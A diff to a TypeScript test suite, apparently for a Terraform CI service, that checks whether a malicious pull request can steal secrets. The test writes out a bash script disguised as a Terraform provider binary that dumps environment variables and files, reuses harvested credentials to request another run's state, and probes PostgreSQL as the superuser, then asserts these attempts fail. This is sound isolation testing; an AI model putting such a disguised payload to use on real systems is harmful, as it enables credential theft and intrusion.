@@ -10,21 +10,23 @@ const SECRET = 'planted-4c1f9be7';
 const PROVIDER =
   'terraform.d/plugins/registry.terraform.io/hashicorp/external/1.0.0/linux_amd64/terraform-provider-external';
 
-/** What a program does that wants to know everything: it looks, and knocks at each port that it finds. */
-const spy = (report: string, ports: number[]) => `#!/bin/bash
-exec >${report}.$$ 2>&1
+/** What a program does that wants to know everything: it looks, and knocks at each door that it finds. */
+const spy = (report: string, port: number, otherRun: string) => `#!/bin/bash
+{
 env
 cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n'
-find / \\( -path /usr -o -path /proc -o -path /sys -o -path /dev \\) -prune -o -type f ! -path '${report}*' -size -256k -print0 | xargs -0 cat
-echo "state of others: $(exec 3<>/dev/tcp/127.0.0.1/\${TF_HTTP_ADDRESS//[^0-9]*([^0-9])/}; true)"
-for port in ${ports.join(' ')}; do
-  exec 3<>/dev/tcp/127.0.0.1/$port || continue
-  # PostgreSQL's start of a conversation, as the user that has everything, without a password.
-  printf '\\0\\0\\0\\047\\0\\003\\0\\0user\\0signalbox\\0database\\0postgres\\0\\0' >&3
-  IFS= read -r -t 5 -n 1 answer <&3
-  echo "port $port answers $answer $(timeout 1 head -c 12 <&3 | od -An -tx1)"
-  exec 3>&-
-done
+find / \\( -path /usr -o -path /proc -o -path /sys -o -path /dev -o -path ${report} \\) -prune -o -type f -size -256k -print0 | xargs -0 cat
+state=\${TF_HTTP_ADDRESS#http://127.0.0.1:}
+exec 3<>/dev/tcp/127.0.0.1/\${state%%/*}
+printf 'GET /runs/${otherRun}/state HTTP/1.0\\r\\nAuthorization: Basic %s\\r\\n\\r\\n' \\
+  "$(printf '%s' "$TF_HTTP_USERNAME:$TF_HTTP_PASSWORD" | base64 -w0)" >&3
+read -r -t 5 line <&3
+echo "state of another run: $line"
+# PostgreSQL's start of a conversation, as the user that has everything, without a password.
+exec 3<>/dev/tcp/127.0.0.1/${port}
+printf '\\0\\0\\0\\052\\0\\003\\0\\0user\\0signalbox\\0database\\0postgres\\0\\0' >&3
+echo "PostgreSQL: $(timeout 5 head -c 13 <&3 | od -An -tx1)"
+} >${report}/$$ 2>&1
 `;
 
 /** The same without a program: Terraform's own functions, and a data source that is built in. */
@@ -69,13 +71,13 @@ suite('A pull request that looks for secrets', () => {
     expect(plan.text).toMatch(/linked\s+= "nothing"/);
 
     const port = Number(new URL(database.url).port);
-    const report = join(reports, 'report');
+    const [other] = await world.query<{ id: string }>("select id from runs where state = 'applied'");
     await world.alice.push(repo, {
       branch: 'spy',
       from: repo.defaultBranch,
       files: {
         'network/spy.tf': 'data "external" "spy" {\n  program = ["sh"]\n}\n',
-        [`network/${PROVIDER}`]: { content: spy(report, [port]), mode: '100755' },
+        [`network/${PROVIDER}`]: { content: spy(reports, port, other?.id ?? ''), mode: '100755' },
       },
     });
     const spying = await world.alice.openPullRequest(repo, { head: 'spy', title: 'Spy' });
@@ -84,10 +86,14 @@ suite('A pull request that looks for secrets', () => {
     const names = readdirSync(reports);
     expect(names.length).toBeGreaterThan(0);
     const seen = names.map((name) => readFileSync(join(reports, name), 'latin1')).join('\n');
-    // It did run, and did look.
-    expect(seen).toContain('TF_HTTP_PASSWORD=');
-    // It is asked for a password: R, 23 bytes, SASL.
-    expect(seen).toMatch(new RegExp(`port ${port} answers R\\s+00 00 00 17 00 00 00 0a`));
+    // It did run, did look, and was sent away: R, 23 bytes, 10 is PostgreSQL asking for a password.
+    expect(seen.match(/^(?:TF_HTTP_USERNAME|state of another run|PostgreSQL).*$/gm)).toEqual(
+      expect.arrayContaining([
+        expect.stringMatching(/^TF_HTTP_USERNAME=run-/),
+        expect.stringMatching(/^state of another run: HTTP\/1.1 40[134]/),
+        expect.stringMatching(/^PostgreSQL: +52 00 00 00 17 00 00 00 0a/),
+      ]),
+    );
     const { privateKey, webhookSecret } = github.app;
     const secrets = [
       ...[SECRET, webhookSecret, new URL(database.url).password, privateKey.split('\n')[3] ?? ''],
